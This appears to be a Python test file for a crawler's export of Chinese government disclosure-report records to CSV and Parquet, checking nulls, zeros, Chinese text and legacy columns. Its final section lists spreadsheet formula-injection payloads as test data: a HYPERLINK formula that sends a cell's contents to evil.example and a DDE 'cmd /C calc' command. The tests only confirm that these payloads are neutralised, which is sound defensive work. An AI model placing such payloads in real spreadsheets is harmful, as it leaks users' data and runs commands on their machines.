"""``crawler/tabular.py`` and ``scrapy export`` to CSV and Parquet, flat and wide.

Unit tests on hand-made records (nulls, zeros, money, Chinese, the pre2019
label columns), then a real crawl of the Linhai replica exported through
the command line, checked cell by cell against the stored report records.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pyarrow.parquet as pq
import pytest

from crawler import tabular
from nianbao_core.stat_keys import stat_keys
from storage.db import make_engine
from storage.export import report_record
from storage.repository import ReportStore
from tests.crawling import scrapy

ID_COLUMNS = [name for name, _ in tabular.WIDE_ID_COLUMNS]


def record(**changes) -> dict:
    base = {
        "source": "http://h/art/2023/1/4/a.html", "portal": "linhai", "template": "2021",
        "year": 2022, "title": "临海市经济和信息化局2022年政府信息公开工作年度报告",
        "agency": "临海市经济和信息化局",
        "metadata": {"index_no": None, "publisher": "市经信局", "written_date": None,
                     "published_date": "2023-01-04", "doc_number": None, "subject": None,
                     "validity": None},
        "stats": {"applications.new_received.total": 2,
                  "applications.new_received.natural_person": None,
                  "applications.granted.total": 0, "active.fees.amount": 25.1},
        "legacy_indicators": [], "sections": {"overview": "总体情况"},
        "issues": [{"code": "column_count", "severity": "warning",
                    "where": "applications.new_received", "message": "6 values for 7 columns"},
                   {"code": "rule_row_total", "severity": "error", "where": "x",
                    "message": "总计 13 ≠ 11"},
                   {"code": "column_count", "severity": "warning", "where": "y",
                    "message": "z"}],
        "input_format": "html", "parser_version": "1.0.0",
        "fetched_at": "2026-11-21T17:49:26.629657", "warc_file": "a.warc.gz",
        "warc_record_id": "<urn:uuid:1>", "warc_offset": 80108, "latest": True, "versions": 1,
    }
    return {**base, **changes}


def legacy(group, label, unit, value):
    return {"group": group, "label": label, "unit": unit, "value": value}


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# -- flat -----------------------------------------------------------------------------
def test_flat_row_flattens_metadata_and_keeps_nulls():
    row = tabular.flat_row(record())
    assert row["publisher"] == "市经信局" and row["index_no"] is None
    assert row["published_date"] == date(2023, 1, 4)
    assert row["fetched_at"] == datetime(2026, 11, 21, 17, 49, 26, 629657, tzinfo=UTC)
    assert row["issue_count"] == 3 and row["issue_codes"] == "column_count;rule_row_total"
    assert row["extra"] == {"input_format": "html"}
    assert row["stats"]["applications.new_received.natural_person"] is None
    assert row["document_url"] is None


def test_flat_csv_keeps_chinese_blanks_and_zeros():
    out = io.StringIO()
    tabular.write_csv(tabular.flat_table([record()]), out)
    [row] = read_csv(out.getvalue())
    assert list(row) == [name for name, _ in tabular.FLAT_COLUMNS]
    assert row["agency"] == "临海市经济和信息化局" and row["index_no"] == ""
    assert row["fetched_at"] == "2026-11-21T17:49:26.629657+00:00"
    assert row["latest"] == "true" and row["warc_offset"] == "80108"
    stats = json.loads(row["stats"])
    assert stats["applications.new_received.natural_person"] is None
    assert stats["applications.granted.total"] == 0


def test_flat_parquet_has_typed_and_nested_columns(tmp_path):
    path = tmp_path / "out.parquet"
    tabular.write_parquet(tabular.flat_table([record(), record(source="b", year=None)]), path)
    table = pq.read_table(path)
    assert table.schema.field("published_date").type == "date32[day]"
    [first, second] = table.to_pylist()
    stats = dict(first["stats"])
    assert stats["applications.new_received.natural_person"] is None
    assert stats["applications.granted.total"] == 0 and stats["active.fees.amount"] == 25.1
    assert first["issues"][1] == {"code": "rule_row_total", "severity": "error",
                                  "where": "x", "message": "总计 13 ≠ 11"}
    assert dict(first["sections"]) == {"overview": "总体情况"}
    assert second["year"] is None


# -- wide -----------------------------------------------------------------------------
def test_wide_2021_has_every_key_of_the_form_in_order_and_nulls_stay_null():
    table = tabular.wide_table("2021", [record(stats={**record()["stats"], "x.extra": 1})])
    assert table.names == ID_COLUMNS + list(stat_keys("2021")) + ["x.extra"]
    [row] = table.rows
    assert row["applications.new_received.total"] == 2
    assert row["applications.granted.total"] == 0
    assert row["applications.new_received.natural_person"] is None  # blank
    assert row["applications.carried_over.total"] is None  # absent
    out = io.StringIO()
    tabular.write_csv(table, out)
    [cells] = read_csv(out.getvalue())
    assert cells["applications.granted.total"] == "0"
    assert cells["applications.new_received.natural_person"] == ""
    assert cells["active.fees.amount"] == "25.1"
    assert cells["issue_codes"] == "column_count;rule_row_total"


def test_wide_pre2019_names_columns_after_the_labels():
    g1, g2 = "一、主动公开情况", "三、依申请公开情况"
    first = record(template="pre2019", stats={}, legacy_indicators=[
        legacy(g1, g1, None, None),  # a heading: no column
        legacy(g1, "1.政府网站公开政府信息数", "条", 131),
        legacy(g1, "其中：", "条", 5), legacy(g2, "其中：", "件", None),
        legacy(g2, "申请总数", "件", 12), legacy(g2, "申请总数", "件", 3)])
    second = record(source="b", template="pre2019", stats={}, legacy_indicators=[
        legacy(g1, "1.政府网站公开政府信息数", "条", 0), legacy(g2, "新指标", "件", 1)])
    table = tabular.wide_table("pre2019", [first, second])
    assert table.names == ID_COLUMNS + [
        "1.政府网站公开政府信息数", f"{g1} / 其中：", f"{g2} / 其中：", "申请总数",
        "申请总数 #2", "新指标"]
    a, b = table.rows
    assert (a["1.政府网站公开政府信息数"], b["1.政府网站公开政府信息数"]) == (131, 0)
    assert a[f"{g2} / 其中："] is None and (a["申请总数"], a["申请总数 #2"]) == (12, 3)
    assert a["新指标"] is None and b["申请总数"] is None and b["新指标"] == 1


def test_wide_tables_are_split_by_template():
    tables = tabular.wide_tables([record(template="2019"), record(template="unknown"),
                                  record(template="pre2019", stats={}), record()])
    assert list(tables) == ["pre2019", "2019", "2021", "unknown"]
    assert tables["unknown"].names == ID_COLUMNS + [
        key for key in stat_keys("2021") if key in record()["stats"]]


# -- the command on a real crawl --------------------------------------------------------
@pytest.fixture(scope="module")
def crawled(linhai_sqlite_crawl, tmp_path_factory):
    tmp_path = tmp_path_factory.mktemp("tabular")  # the exports go here
    url = linhai_sqlite_crawl.database_url
    engine = make_engine(url)
    records = [report_record(report) for report in ReportStore(engine).reports()]
    engine.dispose()
    return url, records, tmp_path


def export(crawled, name: str, *options: str):
    url, _, tmp_path = crawled
    done = scrapy("export", "-o", str(tmp_path / name), *options, database_url=url)
    assert done.returncode == 0, done.stderr
    return done


def cell(value) -> str:
    if value is None:
        return ""
    return str(int(value)) if float(value).is_integer() else str(value)


def test_wide_csv_export_has_one_file_per_template_cell_for_cell(crawled):
    _, records, tmp_path = crawled
    export(crawled, "wide.csv", "--wide")
    assert sorted(p.name for p in tmp_path.glob("wide*.csv")) == [
        "wide.2019.csv", "wide.2021.csv", "wide.pre2019.csv"]
    blanks = 0
    for template in ("2019", "2021"):
        raw = (tmp_path / f"wide.{template}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
        rows = read_csv(raw.decode("utf-8-sig"))
        expected = [r for r in records if r["template"] == template]
        assert [row["source"] for row in rows] == [r["source"] for r in expected]
        for row, rec in zip(rows, expected, strict=True):
            assert row["agency"] == rec["agency"] and row["year"] == str(rec["year"])
            assert row["published_date"] == (rec["metadata"]["published_date"] or "")
            assert int(row["issue_count"]) == len(rec["issues"])
            for key in stat_keys(template):
                assert row[key] == cell(rec["stats"].get(key)), (rec["source"], key)
            blanks += sum(value is None for value in rec["stats"].values())
    assert blanks > 0  # blank cells were exported, as empty cells
    legacy_rows = read_csv((tmp_path / "wide.pre2019.csv").read_text(encoding="utf-8-sig"))
    assert len(legacy_rows) == sum(r["template"] == "pre2019" for r in records)
    assert all(len(row) > len(ID_COLUMNS) + 10 for row in legacy_rows)


def test_parquet_export_with_filters(crawled):
    _, records, tmp_path = crawled
    export(crawled, "y2022.parquet", "--portal", "linhai", "--year", "2022")
    expected = [r for r in records if r["year"] == 2022]
    rows = pq.read_table(tmp_path / "y2022.parquet").to_pylist()
    assert [row["source"] for row in rows] == [r["source"] for r in expected] and rows
    for row, rec in zip(rows, expected, strict=True):
        assert dict(row["stats"]) == rec["stats"]
        assert row["title"] == rec["title"]
        assert [issue["code"] for issue in row["issues"]] == [i["code"] for i in rec["issues"]]


def test_wide_parquet_export_of_one_template_is_the_named_file(crawled):
    _, records, tmp_path = crawled
    export(crawled, "t2021.parquet", "--wide", "--template", "2021", "--year", "2022")
    table = pq.read_table(tmp_path / "t2021.parquet")
    assert table.column_names == ID_COLUMNS + list(stat_keys("2021"))
    expected = [r for r in records if r["template"] == "2021" and r["year"] == 2022]
    rows = table.to_pylist()
    assert len(rows) == len(expected) > 0
    for row, rec in zip(rows, expected, strict=True):
        assert {key: row[key] for key in stat_keys("2021")} == {
            key: rec["stats"].get(key) for key in stat_keys("2021")}
    assert not list(tmp_path.glob("t2021.*.parquet"))


# -- neutral output: portal text never runs as a spreadsheet formula --------------------
HOSTILE_TEXT = {
    "title": '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
    "agency": "+cmd|' /C calc'!A0",
    "index_no": "-2+3",
    "publisher": "@SUM(1+1)",
    "document_url": "\tlooks blank",
    "portal": "\r=1+1",
}


def hostile_record() -> dict:
    hostile = record(title=HOSTILE_TEXT["title"], agency=HOSTILE_TEXT["agency"],
                     portal=HOSTILE_TEXT["portal"])
    hostile["metadata"] = {**hostile["metadata"], "index_no": HOSTILE_TEXT["index_no"],
                           "publisher": HOSTILE_TEXT["publisher"]}
    hostile["document"] = {"url": HOSTILE_TEXT["document_url"]}
    return hostile


def test_csv_text_cells_that_start_a_formula_get_an_apostrophe_numbers_stay_numbers():
    out = io.StringIO()
    tabular.write_csv(tabular.flat_table([hostile_record()]), out)
    [row] = read_csv(out.getvalue())
    for column, text in HOSTILE_TEXT.items():
        assert row[column] == "'" + text, column
    assert row["warc_offset"] == "80108" and row["year"] == "2022"
    assert json.loads(row["stats"])["applications.granted.total"] == 0
    assert tabular.neutral_text("＝1+1") == "'＝1+1"  # full width, as a Chinese IME types it
    assert tabular.neutral_text("临海市-2022") == "临海市-2022"


def test_wide_csv_negative_numbers_stay_numbers():
    negative = record()
    negative["stats"] = {**negative["stats"], "active.fees.amount": -3.5}
    out = io.StringIO()
    tabular.write_csv(tabular.wide_tables([negative])["2021"], out)
    [row] = read_csv(out.getvalue())
    assert row["active.fees.amount"] == "-3.5"


def test_parquet_text_cells_are_neutral_and_typed_columns_untouched(tmp_path):
    path = tmp_path / "out.parquet"
    tabular.write_parquet(tabular.flat_table([hostile_record()]), path)
    [row] = pq.read_table(path).to_pylist()
    for column, text in HOSTILE_TEXT.items():
        assert row[column] == "'" + text, column
    assert row["warc_offset"] == 80108 and row["year"] == 2022
